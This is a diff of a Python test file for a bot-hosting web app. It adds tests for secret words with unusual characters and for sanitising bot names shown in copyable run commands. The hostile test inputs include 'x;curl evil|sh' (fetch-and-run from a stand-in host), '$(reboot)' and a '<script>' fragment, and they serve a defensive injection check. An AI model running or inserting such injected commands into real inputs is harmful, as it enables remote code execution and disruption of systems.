@@ -1,11 +1,13 @@
 from __future__ import annotations
 
 import ast
+import re
 from urllib.parse import quote
 
 import pytest
 
 from tests.messages import missing
+from turnwright.app.lan.bot_templates import BotTemplates, class_bot
 from turnwright.app.lan.bot_wheel import bot_wheel
 from turnwright.app.lan.get_page import ClassPages, bot_name_problem
 from turnwright.net.http.request import HttpResponse
@@ -47,6 +49,24 @@ def test_a_bot_knows_its_server_and_the_word_and_gives_way_to_its_environment(pa
     environ: dict[str, str] = {}
     exec(head.replace("import os", "").replace("os.environ", "environ"), {"environ": environ})
     assert environ == {"SERVER_URL": f"ws://{HOST}", "SERVER_SECRET": WORD}
+
+
+@pytest.mark.parametrize("word", ['say-"hi"', "it's", '"it\'s"', "back\\slash", "ü😀"])
+def test_a_bot_knows_a_word_of_any_signs(word: str) -> None:
+    templates = BotTemplates.of("snake")
+    environ: dict[str, str] = {}
+    head = class_bot(templates, "Ada", f"ws://{HOST}", word).partition("from turnwright")[0]
+    exec(head.replace("import os", "").replace("os.environ", "environ"), {"environ": environ})
+    assert environ["SERVER_SECRET"] == word
+
+
+@pytest.mark.parametrize("name", ["x;curl evil|sh", "$(reboot)", "class"])
+def test_a_command_to_copy_names_no_file_that_a_bot_cannot_have(pages: ClassPages, name: str) -> None:
+    commands = re.findall(
+        "<pre>(?:py|python3) ([^<-]*)</pre>", ask(pages, f"/get?name={quote(name)}").body.decode()
+    )
+    assert commands == ["NAME.py"] * 2
+    assert ">py Ada.py<" in ask(pages, "/get?name=Ada").body.decode()
 
 
 @pytest.mark.parametrize("word", ["", "wrong", '<script>"'])
